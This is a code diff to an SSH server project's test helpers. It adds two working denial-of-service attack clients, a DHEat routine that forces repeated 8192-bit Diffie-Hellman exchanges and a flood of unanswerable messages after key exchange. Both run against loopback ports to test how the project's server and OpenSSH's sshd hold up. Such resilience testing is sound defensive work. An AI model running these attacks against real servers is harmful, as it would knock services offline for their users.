@@ -1,6 +1,10 @@
 """``sshviz serve`` in a subprocess, for tests that treat it as a hostile classroom would: it
 listens on a free loopback port, its output is collected line by line (so a chatty server never
-blocks on a full pipe), and ``login`` is a real OpenSSH login from any loopback source address."""
+blocks on a full pipe), and ``login`` is a real OpenSSH login from any loopback source address.
+
+Then the attacks themselves, shared by the tests and bench/hostile.py (which runs them against
+OpenSSH's sshd too): each takes a port and the source address to attack from (every
+127.0.0.0/8 address is local, so each attacker has its own) and stops by itself."""
 
 from __future__ import annotations
 
@@ -14,6 +18,11 @@ import threading
 import time
 from dataclasses import dataclass, field
 from pathlib import Path
+
+from sshviz.crypto import dh_groups
+from sshviz.crypto.random import SeededRandom
+from sshviz.transport.packet import PacketWriter
+from sshviz.wire.catalog import MSG
 
 from .openssh import SSH, require, shared_keys, ssh_command, stop
 
@@ -113,5 +122,108 @@ def first_bytes(sockets: list[socket.socket]) -> list[bytes]:
 
 def hold_idle(addresses: list[str], port: int) -> list[socket.socket]:
     """Connections that never say anything, one per source address given."""
-    return [socket.create_connection(("127.0.0.1", port), 10, source_address=(address, 0))
-            for address in addresses]
+    return [connect(port, address) for address in addresses]
+
+
+def connect(port: int, source: str, timeout: float = 10) -> socket.socket:
+    return socket.create_connection(("127.0.0.1", port), timeout, source_address=(source, 0))
+
+
+def _kexinit(kex: str) -> bytes:
+    cipher, mac = ["aes128-ctr"], ["hmac-sha2-256"]
+    return MSG.KEXINIT.build(
+        cookie=os.urandom(16), kex_algorithms=[kex], server_host_key_algorithms=["ssh-ed25519"],
+        encryption_algorithms_client_to_server=cipher, encryption_algorithms_server_to_client=cipher,
+        mac_algorithms_client_to_server=mac, mac_algorithms_server_to_client=mac,
+        compression_algorithms_client_to_server=["none"], compression_algorithms_server_to_client=["none"],
+        languages_client_to_server=[], languages_server_to_client=[], first_kex_packet_follows=False,
+        reserved=0).encode()
+
+
+def dheat(port: int, source: str, until: threading.Event, kex: str = "diffie-hellman-group18-sha512",
+          group: int = dh_groups.MODP_8192) -> int:
+    """The DHEat attack (as ssh-audit names it): ask for an 8192-bit Diffie-Hellman exchange
+    with a random public value, which costs the attacker nothing and the server two large
+    exponentiations; read the reply, close, again, until ``until`` is set. Returns the exchanges
+    made."""
+    writer = PacketWriter("c2s", SeededRandom(source))
+    made = 0
+    while not until.is_set():
+        try:
+            with connect(port, source) as sock:
+                e = 2 + int.from_bytes(os.urandom(group.bit_length() // 8), "big") % (group - 4)
+                sock.sendall(b"SSH-2.0-dheat\r\n" + writer.encode(_kexinit(kex)).wire
+                             + writer.encode(MSG.KEXDH_INIT.build(e=e).encode()).wire)
+                received = 0
+                while received < group.bit_length() // 8 and not until.is_set():  # the reply carries f
+                    chunk = sock.recv(65536)
+                    if not chunk:
+                        break
+                    received += len(chunk)
+                made += 1
+        except OSError:
+            time.sleep(0.05)
+    return made
+
+
+def reply_flood(port: int, source: str, until: threading.Event, seconds: float = 20) -> str:
+    """Finish the key exchange, then send message after message the server must answer
+    (unknown numbers: UNIMPLEMENTED), never reading. Returns how it ended."""
+    from sshviz.endpoint import ClientConfig, ClientConnection
+    from sshviz.transport.transport import TransportConfig
+    from sshviz.wire.spec import UNKNOWN_TAIL, Message, MessageSpec
+
+    client = ClientConnection(ClientConfig(TransportConfig(kex=["curve25519-sha256"])))
+    client.auth.start = lambda: None  # never ask for authentication
+    strange = Message(MessageSpec(150, "STRANGE", UNKNOWN_TAIL, "", "", "attack"), {"data": b"x" * 1000})
+    deadline = time.monotonic() + seconds
+    try:
+        with connect(port, source) as sock:
+            client.start()
+            while not client.transport.first_kex_done:
+                sock.sendall(client.data_to_send())
+                data = sock.recv(65536)
+                if not data:
+                    return "closed during the key exchange"
+                client.receive_data(data)
+            sock.settimeout(5)
+            while not until.is_set() and time.monotonic() < deadline:
+                for _ in range(100):
+                    client.transport.send_raw(strange)
+                sock.sendall(client.data_to_send())
+            return "still open"
+    except OSError as exc:
+        return f"closed by the server ({type(exc).__name__})"
+
+
+def in_background(function, *args) -> tuple[threading.Thread, list]:
+    """Run ``function(*args)`` in a thread; its result lands in the returned list."""
+    result: list = []
+    thread = threading.Thread(target=lambda: result.append(function(*args)), daemon=True)
+    thread.start()
+    return thread, result
+
+
+def rss_kib(pid: int) -> int:
+    """Resident memory of a process and all its descendants (sshd's children, sshviz's
+    workers), KiB, from Linux's /proc."""
+    total = 0
+    for child in [pid] + _descendants(pid):
+        with contextlib.suppress(OSError), open(f"/proc/{child}/status") as status:
+            total += next((int(line.split()[1]) for line in status if line.startswith("VmRSS:")), 0)
+    return total
+
+
+def _descendants(pid: int) -> list[int]:
+    parents: dict[int, list[int]] = {}
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            with contextlib.suppress(OSError), open(f"/proc/{entry}/stat") as stat:
+                parent = int(stat.read().rsplit(")", 1)[1].split()[1])
+                parents.setdefault(parent, []).append(int(entry))
+    found, todo = [], [pid]
+    while todo:
+        children = parents.get(todo.pop(), [])
+        found += children
+        todo += children
+    return found
